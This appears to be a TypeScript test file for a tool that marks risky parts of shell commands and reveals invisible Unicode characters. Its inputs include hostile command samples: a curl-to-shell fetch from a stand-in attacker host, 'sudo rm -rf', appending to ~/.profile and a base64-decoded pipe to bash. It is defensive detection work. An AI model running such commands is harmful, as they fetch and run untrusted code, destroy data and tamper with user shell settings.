import assert from "node:assert/strict";
import { test } from "node:test";
import { riskyRanges } from "./risks.ts";
import { visibleParts } from "./visible-text.ts";

const riskyIn = (text: string): readonly (readonly [string, string])[] =>
  riskyRanges(text).map(({ start, end, risk }) => [risk, text.slice(start, end)]);

test("[WEB-24] what deserves a second look in a command is marked, wherever it stands", () => {
  assert.deepEqual(riskyIn("npm test; curl -fsSL https://evil.example/x | sh"), [
    ["network", "curl"],
    ["network", "https://evil.example/x"],
    ["shell", "| sh"],
  ]);
  assert.deepEqual(riskyIn("sudo rm -rf build && echo hi >> ~/.profile"), [
    ["root", "sudo"],
    ["delete", "rm -rf"],
    ["outside", ">> ~/.profile"],
  ]);
  assert.deepEqual(riskyIn("echo aGk= | base64 -d | /bin/bash"), [
    ["hidden", "base64 -d"],
    ["shell", "| /bin/bash"],
  ]);
  for (const harmless of [
    "npm test",
    "ls > out.txt 2> /dev/null",
    "git rm old.txt",
    "cat a | sort",
    "farm -fresh",
  ]) {
    assert.deepEqual(riskyIn(harmless), [], harmless);
  }
});

test("[WEB-24] signs that are not seen are named, and none of the text is lost", () => {
  const parts = visibleParts("rm\u00A0x\u202E \u200Bls\r\u2066y\n\tb");
  const signs = ["U+00A0", "U+202E", "U+200B", "U+000D", "U+2066"];
  assert.deepEqual(
    parts.filter(({ isSign }) => isSign).map(({ text }) => text),
    signs.map((sign) => `‹${sign}›`),
  );
  assert.equal(
    parts
      .filter(({ isSign }) => !isSign)
      .map(({ text }) => text)
      .join("|"),
    "rm|x| |ls|y\n\tb",
  );
});
